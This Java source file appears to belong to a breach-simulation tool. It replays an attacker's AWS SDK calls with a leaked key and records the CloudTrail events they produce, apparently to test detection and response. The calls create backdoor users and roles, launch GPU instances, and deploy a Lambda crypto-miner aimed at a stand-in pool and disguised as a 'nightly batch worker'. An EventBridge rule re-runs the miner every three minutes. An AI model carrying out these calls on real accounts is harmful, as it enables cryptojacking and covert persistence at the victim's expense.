package dev.tourniquet.cli.simulate;

import dev.tourniquet.internal.Partitions;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.tourniquet.cli.local.LocalAccount;
import dev.tourniquet.internal.Json;
import java.time.Duration;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.ConcurrentHashMap;
import software.amazon.awssdk.services.ec2.model.Instance;
import software.amazon.awssdk.services.lambda.model.Architecture;
import software.amazon.awssdk.services.lambda.model.FunctionConfiguration;
import software.amazon.awssdk.services.lambda.model.ResourceNotFoundException;
import software.amazon.awssdk.services.lambda.model.Runtime;

/**
 * The attacker's SDK calls, each returning what CloudTrail records of it (the request and response
 * elements its event carries, as documented for each service's CloudTrail events).
 */
final class AttackerCalls {
    static final String ROLE = "xmrig-exec";
    private static final String MINER = "import subprocess\ndef handler(event, context):\n"
            + "    subprocess.run(['./xmrig', '-o', 'pool.example:3333'])\n";
    private static final String TRUST = """
            {"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},\
            "Action":"sts:AssumeRole"}]}""";

    private final AttackerClients leaked;
    private final AttackProfile profile;
    private final BackdoorCalls backdoor;
    private final Map<String, FunctionConfiguration> functions = new ConcurrentHashMap<>();
    private final Map<String, String> images = new ConcurrentHashMap<>();
    private String roleArn = "arn:aws:iam::" + LocalAccount.ACCOUNT_ID + ":role/" + ROLE;
    private AttackerCall current;

    AttackerCalls(AttackerClients clients, AttackProfile profile) {
        this.leaked = clients;
        this.profile = profile;
        this.backdoor = new BackdoorCalls(clients, profile.backdoor());
    }

    /** A call made: what it did, its CloudTrail record, what it created. */
    record Made(String text, Optional<CloudTrailRecord> trail, Optional<AttackerResource> created) {
    }

    /** Looks up images for the GPU instances before the clock starts: the attacker arrives knowing them. */
    void prepare() {
        for (String region : profile.instanceRegions()) {
            images.put(region, VictimAccount.anyImage(leaked.ec2(region)));
        }
    }

    /** The backdoor user's key once the attacker minted it. */
    Optional<LeakedKey> backdoorKey() {
        return backdoor.key();
    }

    Made make(AttackerCall call, Duration at) {
        current = call;
        Made made = switch (call.kind()) {
            case RECON -> recon();
            case CREATE_USER, CREATE_ACCESS_KEY, CREATE_LOGIN_PROFILE, ATTACH_USER_POLICY, CREATE_BACKDOOR_ROLE,
                 ATTACH_ROLE_POLICY -> backdoor.make(call, at);
            case CREATE_ROLE -> createRole(call);
            case RUN_INSTANCE -> runInstance(call, at);
            case CREATE_FUNCTION -> createFunction(call, at);
            case ADD_PERMISSION -> addPermission(call);
            case PUT_RULE -> putRule(call);
            case PUT_TARGETS -> putTargets(call);
            case UPDATE_FUNCTION_CODE -> updateCode(call);
            case CREATE_SERVICE -> FargateMiner.create(clients(), call, at, signer())
                    .made(this::trail);
        };
        return made;
    }

    // The clients of the key this call is signed with.
    private AttackerClients clients() {
        return current.with() == AttackerCall.Credential.BACKDOOR_KEY
                ? leaked.as(backdoor.key().orElseThrow(() -> new IllegalStateException("no backdoor key yet")))
                : leaked;
    }

    private Optional<LeakedKey> caller() {
        return current.with() == AttackerCall.Credential.BACKDOOR_KEY ? backdoor.key() : Optional.empty();
    }

    Optional<FunctionConfiguration> function(String arn) {
        return Optional.ofNullable(functions.get(arn));
    }

    /** Whether the attacker, looking with the key, sees its function stopped (concurrency 0) or gone. */
    boolean stopped(String region, String name) {
        try {
            Integer reserved = leaked.lambda(region).getFunctionConcurrency(r -> r.functionName(name))
                    .reservedConcurrentExecutions();
            return reserved != null && reserved == 0;
        } catch (ResourceNotFoundException gone) {
            return true;
        }
    }

    // A read: CloudTrail delivers read-only events to EventBridge only to rules that opt in; none is made here.
    private Made recon() {
        String arn = clients().iam().getUser().user().arn();
        return new Made("the key belongs to " + arn, Optional.empty(), Optional.empty());
    }

    private Made createRole(AttackerCall call) {
        var role = clients().iam().createRole(r -> r.roleName(call.name()).assumeRolePolicyDocument(TRUST)).role();
        roleArn = role.arn();
        ObjectNode request = Json.object().put("roleName", call.name()).put("assumeRolePolicyDocument", TRUST);
        ObjectNode response = Json.object();
        response.putObject("role").put("roleName", role.roleName()).put("arn", role.arn()).put("roleId", role.roleId())
                .put("path", role.path()).put("createDate", BackdoorCalls.iamDate(role.createDate()))
                .put("assumeRolePolicyDocument", BackdoorCalls.urlEncoded(TRUST));
        return new Made("role " + role.arn(), trail("iam", "CreateRole", "us-east-1", request, response),
                Optional.empty());
    }

    private Made runInstance(AttackerCall call, Duration at) {
        String image = images.getOrDefault(call.region(), "ami-12c6146b");
        Instance instance = clients().ec2(call.region()).runInstances(r -> r.imageId(image)
                .instanceType(profile.instanceType()).minCount(1).maxCount(1).tagSpecifications(t -> t
                        .resourceType("instance").tags(tag -> tag.key("Name").value(call.name())))).instances().get(0);
        ObjectNode request = Json.object().put("instanceType", profile.instanceType());
        request.putObject("instancesSet").putArray("items").addObject().put("imageId", image).put("minCount", 1)
                .put("maxCount", 1);
        ObjectNode response = Json.object().put("ownerId", LocalAccount.ACCOUNT_ID);
        ObjectNode item = response.putObject("instancesSet").putArray("items").addObject()
                .put("instanceId", instance.instanceId()).put("imageId", image)
                .put("instanceType", profile.instanceType()).put("subnetId", instance.subnetId())
                .put("vpcId", instance.vpcId()).put("privateIpAddress", instance.privateIpAddress());
        item.putObject("instanceState").put("code", 0).put("name", "pending");
        item.putObject("placement").put("availabilityZone", instance.placement().availabilityZone());
        return new Made(instance.instanceId() + " " + profile.instanceType() + " launched",
                trail("ec2", "RunInstances", call.region(), request, response),
                Optional.of(new AttackerResource(AttackerResource.Kind.INSTANCE, instance.instanceId(),
                        call.region(), call.name() + " " + instance.instanceId(), at, signer())));
    }

    private Made createFunction(AttackerCall call, Duration at) {
        var created = clients().lambda(call.region()).createFunction(r -> r.functionName(call.name())
                .runtime(Runtime.PYTHON3_12).role(roleArn).handler("main.handler").architectures(Architecture.ARM64)
                .memorySize(profile.functionMemoryMb()).timeout(profile.executionSeconds())
                .description("nightly batch worker").code(c -> c.zipFile(VictimAccount.zip(MINER))));
        FunctionConfiguration config = FunctionConfiguration.builder().functionName(created.functionName())
                .functionArn(created.functionArn()).role(created.role()).revisionId(created.revisionId())
                .description(created.description()).build();
        functions.put(created.functionArn(), config);
        ObjectNode request = Json.object().put("functionName", call.name()).put("runtime", "python3.12")
                .put("role", roleArn).put("handler", "main.handler").put("timeout", profile.executionSeconds())
                .put("memorySize", profile.functionMemoryMb()).put("packageType", "Zip").put("publish", false);
        request.putObject("code");
        request.putArray("architectures").add("arm64");
        ObjectNode response = Json.object().put("functionName", created.functionName())
                .put("functionArn", created.functionArn()).put("runtime", "python3.12").put("role", created.role())
                .put("handler", "main.handler").put("codeSize", created.codeSize()).put("timeout", created.timeout())
                .put("memorySize", created.memorySize()).put("codeSha256", created.codeSha256())
                .put("version", "$LATEST").put("revisionId", created.revisionId()).put("state", "Pending");
        response.putArray("architectures").add("arm64");
        return new Made(created.functionArn() + " (" + profile.functionMemoryMb() + " MB, "
                + profile.executionSeconds() + " s)",
                trail("lambda", "CreateFunction20150331", call.region(), request, response),
                Optional.of(new AttackerResource(AttackerResource.Kind.FUNCTION, created.functionArn(), call.region(),
                        call.name(), at, signer())));
    }

    private Made addPermission(AttackerCall call) {
        String ruleArn = ruleArn(call);
        var added = clients().lambda(call.region()).addPermission(r -> r.functionName(call.name()).statementId("rule")
                .action("lambda:InvokeFunction").principal("events.amazonaws.com").sourceArn(ruleArn));
        ObjectNode request = Json.object().put("functionName", call.name()).put("statementId", "rule")
                .put("action", "lambda:InvokeFunction").put("principal", "events.amazonaws.com")
                .put("sourceArn", ruleArn);
        return new Made("EventBridge may invoke it", trail("lambda", "AddPermission20150331v2", call.region(), request,
                Json.object().put("statement", added.statement())), Optional.empty());
    }

    private Made putRule(AttackerCall call) {
        String rule = AttackerCall.ruleName(call.name());
        String arn = clients().events(call.region()).putRule(r -> r.name(rule).scheduleExpression("rate(3 minutes)"))
                .ruleArn();
        return new Made("rate(3 minutes)", trail("events", "PutRule", call.region(), Json.object().put("name", rule)
                .put("scheduleExpression", "rate(3 minutes)"), Json.object().put("ruleArn", arn)), Optional.empty());
    }

    private Made putTargets(AttackerCall call) {
        String rule = AttackerCall.ruleName(call.name());
        String arn = functionArn(call);
        clients().events(call.region()).putTargets(r -> r.rule(rule).targets(t -> t.id("miner").arn(arn)));
        ObjectNode request = Json.object().put("rule", rule);
        request.putArray("targets").addObject().put("id", "miner").put("arn", arn);
        ObjectNode response = Json.object().put("failedEntryCount", 0);
        response.putArray("failedEntries");
        return new Made("re-runs " + call.name() + " every 3 minutes",
                trail("events", "PutTargets", call.region(), request, response), Optional.empty());
    }

    private Made updateCode(AttackerCall call) {
        var updated = clients().lambda(call.region()).updateFunctionCode(r -> r.functionName(call.name())
                .zipFile(VictimAccount.zip(MINER)));
        ObjectNode request = Json.object().put("functionName", call.name()).put("publish", false)
                .put("dryRun", false);
        ObjectNode response = Json.object().put("functionName", updated.functionName())
                .put("functionArn", updated.functionArn()).put("codeSha256", updated.codeSha256())
                .put("revisionId", updated.revisionId()).put("lastUpdateStatus", "InProgress");
        return new Made("miner re-installed",
                trail("lambda", "UpdateFunctionCode20150331v2", call.region(), request, response), Optional.empty());
    }

    private String functionArn(AttackerCall call) {
        return "arn:" + Partitions.ofRegion(call.region()) + ":lambda:" + call.region() + ":" + LocalAccount.ACCOUNT_ID
                + ":function:" + call.name();
    }

    private String ruleArn(AttackerCall call) {
        return "arn:" + Partitions.ofRegion(call.region()) + ":events:" + call.region() + ":" + LocalAccount.ACCOUNT_ID
                + ":rule/"
                + AttackerCall.ruleName(call.name());
    }

    // Who signed: the leaked key's id, or the backdoor user's.
    private String signer() {
        return caller().map(LeakedKey::accessKeyId).orElse(leaked.keyId());
    }

    Optional<CloudTrailRecord> trail(String service, String eventName, String region, ObjectNode request,
                                             ObjectNode response) {
        return Optional.of(new CloudTrailRecord(service, eventName, region, request, response, caller()));
    }
}
